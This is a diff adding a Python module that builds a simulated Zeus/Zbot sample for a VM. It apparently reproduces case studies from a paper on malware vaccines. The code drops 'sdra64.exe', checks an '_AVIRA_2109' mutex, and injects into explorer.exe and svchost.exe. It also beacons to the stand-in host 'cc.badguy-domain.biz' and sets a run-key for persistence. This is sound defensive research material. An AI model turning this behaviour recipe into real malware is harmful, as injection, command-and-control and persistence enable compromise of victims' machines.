@@ -1,0 +1,88 @@
+"""Zeus/Zbot analogue (paper §VI-D case studies, Table III rows 8-10).
+
+Resource logic reproduced from the paper:
+
+* static mutex ``_AVIRA_2109`` gating process hijacking — "This set of
+  vaccines can stop multiple malware logic such as kernel injection, process
+  hijacking, and network communication";
+* static file ``%system32%\\sdra64.exe`` — "if Zeus successfully creates this
+  file, it will continue writing malicious bytes into that file … and start a
+  new process using this file"; the file vaccine (super-user-owned decoy)
+  stops the malicious process (impact ``T,P`` in Table III).
+
+Variants 3 and 4 do not use ``sdra64.exe`` (the paper found the file vaccine
+missing in 2 of 5 new Zbot variants — Table VII's 77%).
+"""
+
+from __future__ import annotations
+
+from ..builder import (
+    AsmBuilder,
+    frag_beacon,
+    frag_check_mutex_marker,
+    frag_create_mutex,
+    frag_drop_file,
+    frag_exit,
+    frag_inject_process,
+    frag_persist_run_key,
+)
+
+FAMILY = "zeus"
+CATEGORY = "backdoor"
+
+MUTEX = "_AVIRA_2109"
+DROPPER_PATH = "%system32%\\sdra64.exe"
+
+#: Variant-specific dropper file names (None = no file marker used).
+_VARIANT_FILES = {
+    0: DROPPER_PATH,
+    1: DROPPER_PATH,
+    2: DROPPER_PATH,
+    3: None,
+    4: None,
+}
+_VARIANT_MUTEXES = {
+    0: MUTEX,
+    1: "_AVIRA_21099",
+    2: MUTEX,
+    3: MUTEX,
+    4: "_AVIRA_2108",
+}
+
+
+def build(variant: int = 0) -> "Program":
+    b = AsmBuilder(f"{FAMILY}_v{variant}" if variant else FAMILY)
+    mutex = _VARIANT_MUTEXES.get(variant, MUTEX)
+    dropper = _VARIANT_FILES.get(variant, DROPPER_PATH)
+
+    done = b.unique("done")
+    no_hijack = b.unique("no_hijack")
+
+    if dropper is not None:
+        # Failing to create sdra64.exe terminates the malware (impact T).
+        bail = b.unique("bail")
+        frag_drop_file(b, dropper, bail, content="MZzbotbody")
+        b.call("CreateProcessA", b.string(dropper), "0", "0", b.buffer(8))
+        skip_bail = b.unique("L")
+        b.emit(f"    jmp {skip_bail}")
+        b.label(bail)
+        frag_exit(b, 1)
+        b.label(skip_bail)
+
+    # The _AVIRA_ mutex gates hijacking + C&C: marker present -> skip both.
+    frag_check_mutex_marker(b, mutex, no_hijack)
+    frag_create_mutex(b, mutex)
+    frag_inject_process(b, "explorer.exe")
+    frag_inject_process(b, "svchost.exe")
+    frag_beacon(b, "cc.badguy-domain.biz", rounds=5, payload="ZBOTPOST")
+    b.label(no_hijack)
+
+    # Persistence runs regardless (winlogon-style userinit override).
+    frag_persist_run_key(b, "userfirewall", "c:\\windows\\system32\\sdra64.exe")
+    b.emit(f"    jmp {done}")
+    b.label(done)
+    b.emit("    halt")
+    return b.build(family=FAMILY, category=CATEGORY, variant=variant)
+
+
+from ...vm.program import Program  # noqa: E402  (typing reference)
